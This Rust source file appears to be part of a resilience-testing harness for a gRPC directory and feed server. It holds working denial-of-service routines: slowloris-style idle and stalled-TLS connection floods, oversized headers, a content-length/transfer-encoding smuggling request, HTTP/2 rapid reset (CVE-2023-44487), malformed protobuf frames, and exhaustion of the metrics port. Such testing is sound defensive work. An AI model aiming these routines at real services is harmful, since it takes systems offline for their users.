//! Attacks below the level of calls: connections, handshakes, headers, frames.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::attacker::{Attacker, Outcome};
use super::peer::Peer;
use super::tally::Tally;

const CONNECTIONS_PER_PEER: usize = 64;
/// An attacker who is refused reads nothing for longer than this.
const READ_TIMEOUT: Duration = Duration::from_secs(5);
const HEADER_BYTES: usize = 70_000;
/// A method of each service and of each direction of streaming.
const METHODS: [&str; 14] = [
    "/hedgerow.directory.v1.DirectoryService/SearchRecords",
    "/hedgerow.directory.v1.DirectoryService/GetGroup",
    "/hedgerow.directory.v1.DirectoryService/GetRecord",
    "/hedgerow.directory.v1.DirectoryService/ListEvents",
    "/hedgerow.directory.v1.DirectoryService/GetCoverage",
    "/hedgerow.feed.v1.FeedService/GetHead",
    "/hedgerow.feed.v1.FeedService/Sync",
    "/hedgerow.feed.v1.FeedService/WatchHeads",
    "/hedgerow.feed.v1.FeedService/GetProof",
    "/hedgerow.ingest.v1.IngestService/Announce",
    "/hedgerow.ingest.v1.IngestService/Push",
    "/grpc.health.v1.Health/Check",
    "/hedgerow.steward.v1.StewardService/CreateRecord",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
];

/// Holds TCP connections on which nothing is sent, and opens closed ones again.
pub fn idle_connections(attacker: &mut Attacker, peers: u32) -> anyhow::Result<()> {
    hold_tcp(attacker, peers, b"")
}

/// Sends the first bytes of a TLS handshake, and then nothing.
pub fn stalled_handshakes(attacker: &mut Attacker, peers: u32) -> anyhow::Result<()> {
    // A handshake record of 512 bytes, and of it the start of a ClientHello.
    hold_tcp(attacker, peers, &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3])
}

fn hold_tcp(attacker: &mut Attacker, peers: u32, first: &'static [u8]) -> anyhow::Result<()> {
    for peer in attacker.peers(peers)? {
        for _ in 0..CONNECTIONS_PER_PEER {
            let (peer, tally) = (peer.clone(), attacker.tally.clone());
            attacker.repeat(move || hold(peer.clone(), first, tally.clone()));
        }
    }
    Ok(())
}

async fn hold(peer: Peer, first: &[u8], tally: Tally) -> Outcome {
    let mut tcp = peer.tcp().await.map_err(|error| error.kind().to_string())?;
    tcp.write_all(first).await.map_err(|_| "closed at once")?;
    tally.count("opened");
    let mut byte = [0];
    let closed = timeout(Duration::from_secs(60), tcp.read(&mut byte)).await;
    // A closed connection is opened again only after a pause, so that it counts as refused.
    Err(if closed.is_ok() {
        "closed"
    } else {
        "held for a minute"
    }
    .to_owned())
}

/// Sends headers over the limit, and a request with two lengths, over HTTP/1.1.
pub fn big_headers(attacker: &mut Attacker) -> anyhow::Result<()> {
    let big = format!(
        "GET / HTTP/1.1\r\nhost: x\r\nx-big: {}\r\n\r\n",
        "a".repeat(HEADER_BYTES)
    );
    let twofold = "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\n\
                   transfer-encoding: chunked\r\n\r\n0\r\n\r\n"
        .to_owned();
    for peer in attacker.peers(8)? {
        for request in [&big, &twofold] {
            let (peer, request) = (peer.clone(), request.clone());
            attacker.repeat(move || {
                let (peer, request) = (peer.clone(), request.clone());
                async move {
                    let tls = peer.tls(b"http/1.1").await;
                    let mut tls = tls.map_err(|_| "no connection")?;
                    // The server may refuse before it has read everything.
                    let _ = tls.write_all(request.as_bytes()).await;
                    read_status(&mut tls).await
                }
            });
        }
    }
    Ok(())
}

/// Reads the status of an HTTP/1.1 response.
async fn read_status(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> Outcome {
    let mut bytes = [0; 64];
    match timeout(READ_TIMEOUT, stream.read(&mut bytes)).await {
        Ok(Ok(length)) if length >= 12 => {
            let status = String::from_utf8_lossy(&bytes[9..12]);
            Ok(format!("http_{status}"))
        }
        Ok(_) => Err("closed".to_owned()),
        Err(_) => Err("no response".to_owned()),
    }
}

/// Opens streams and resets each at once (CVE-2023-44487).
pub fn rapid_resets(attacker: &mut Attacker) -> anyhow::Result<()> {
    for peer in attacker.peers(16)? {
        let tally = attacker.tally.clone();
        attacker.repeat(move || {
            let (peer, tally) = (peer.clone(), tally.clone());
            async move {
                let mut sender = peer.http2().await.map_err(|_| "no connection")?;
                tally.count("opened");
                for _ in 0..100_000 {
                    let request = grpc_request(&peer, METHODS[0])?;
                    sender = sender.ready().await.map_err(|_| "connection closed")?;
                    let sent = sender.send_request(request, false);
                    let (_, mut stream) = sent.map_err(|_| "connection closed")?;
                    stream.send_reset(h2::Reason::CANCEL);
                    tokio::task::yield_now().await;
                }
                Ok("100,000 resets".to_owned())
            }
        });
    }
    Ok(())
}

fn grpc_request(peer: &Peer, path: &str) -> Result<http::Request<()>, String> {
    http::Request::post(peer.url(path))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .map_err(|error| error.to_string())
}

/// Sends messages that are not protobuf, to one method after another.
pub fn malformed(attacker: &mut Attacker) -> anyhow::Result<()> {
    // A field of wire type 7, which does not exist; and a length past the end.
    const MESSAGES: [&[u8]; 3] = [&[0x0f], &[0x0a, 0x7f, 1], &[0xff; 12]];
    for peer in attacker.peers(4)? {
        for worker in 0..8 {
            let (peer, tally) = (peer.clone(), attacker.tally.clone());
            attacker.repeat(move || {
                let (peer, tally) = (peer.clone(), tally.clone());
                async move {
                    let sender = peer.http2().await.map_err(|_| "no connection")?;
                    for (number, path) in METHODS.iter().cycle().take(500).enumerate() {
                        let message = MESSAGES[(number + worker) % MESSAGES.len()];
                        let call = raw_call(&sender, &peer, path, message);
                        let status = timeout(READ_TIMEOUT, call).await;
                        tally.count(&status.map_err(|_| "no response")??);
                    }
                    Ok("500 calls".to_owned())
                }
            });
        }
    }
    Ok(())
}

/// Calls a method with any bytes as its message, and returns the gRPC status.
async fn raw_call(
    sender: &h2::client::SendRequest<Bytes>,
    peer: &Peer,
    path: &str,
    message: &[u8],
) -> Outcome {
    let mut frame = vec![0];
    frame.extend(
        u32::try_from(message.len())
            .unwrap_or_default()
            .to_be_bytes(),
    );
    frame.extend(message);
    let ready = sender.clone().ready().await;
    let mut sender = ready.map_err(|_| "connection closed")?;
    let sent = sender.send_request(grpc_request(peer, path)?, false);
    let (response, mut stream) = sent.map_err(|_| "connection closed")?;
    // The server may have refused the call by its path already.
    let _ = stream.send_data(Bytes::from(frame), true);
    let response = response.await.map_err(|_| "stream reset")?;
    if let Some(status) = response.headers().get("grpc-status") {
        return Ok(format!("grpc_{}", status.to_str().unwrap_or_default()));
    }
    let mut body = response.into_body();
    while let Some(data) = body.data().await {
        let data = data.map_err(|_| "stream reset")?;
        let _ = body.flow_control().release_capacity(data.len());
    }
    let trailers = body.trailers().await.map_err(|_| "stream reset")?;
    let status = trailers.as_ref().and_then(|all| all.get("grpc-status"));
    let status = status.and_then(|status| status.to_str().ok());
    Ok(format!("grpc_{}", status.unwrap_or("none")))
}

/// Opens `Health.Watch` streams, and keeps them.
pub fn health_watches(attacker: &mut Attacker) -> anyhow::Result<()> {
    for peer in attacker.peers(32)? {
        let tally = attacker.tally.clone();
        attacker.repeat(move || {
            let (peer, tally) = (peer.clone(), tally.clone());
            async move {
                let sender = peer.http2().await.map_err(|_| "no connection")?;
                tally.count("opened 8");
                let watch = || raw_call(&sender, &peer, "/grpc.health.v1.Health/Watch", &[]);
                let watches = futures::future::join_all((0..8).map(|_| watch()));
                match timeout(Duration::from_secs(2), watches).await {
                    Ok(ended) => ended.into_iter().next().unwrap_or(Err("none".to_owned())),
                    Err(_) => Ok("closed 8".to_owned()),
                }
            }
        });
    }
    Ok(())
}

/// Attacks the port of the metrics: idle connections, slow and oversized requests, and readers
/// that read nothing.
pub fn metrics(attacker: &mut Attacker) -> anyhow::Result<()> {
    let address = attacker.metrics.context("the server serves no metrics")?;
    for worker in 0..512 {
        let tally = attacker.tally.clone();
        attacker.repeat(move || {
            tally.count("opened");
            metrics_request(address, worker)
        });
    }
    Ok(())
}

async fn metrics_request(address: SocketAddr, worker: u32) -> Outcome {
    let tcp = TcpStream::connect(address).await;
    let mut tcp = tcp.map_err(|error| error.kind().to_string())?;
    match worker % 4 {
        0 => {
            let mut byte = [0];
            let _ = timeout(Duration::from_secs(60), tcp.read(&mut byte)).await;
            Err("idle connection closed".to_owned())
        }
        1 => {
            for byte in b"GET /metrics HTTP/1.1\r\nx: aaaaaaaaaaaaaaaaaaaaaaaa" {
                let sent = tcp.write_all(&[*byte]).await;
                sent.map_err(|_| "slow request closed")?;
                sleep(Duration::from_millis(200)).await;
            }
            Err("slow request held".to_owned())
        }
        2 => {
            let header = format!(
                "GET /metrics HTTP/1.1\r\nhost: x\r\nx: {}\r\n\r\n",
                "a".repeat(HEADER_BYTES)
            );
            let _ = tcp.write_all(header.as_bytes()).await;
            read_status(&mut tcp).await
        }
        _ => {
            for _ in 0..1_000 {
                let request = b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n";
                let sent = tcp.write_all(request).await;
                sent.map_err(|_| "unread response closed")?;
            }
            sleep(READ_TIMEOUT).await;
            Ok("1,000 unread responses".to_owned())
        }
    }
}
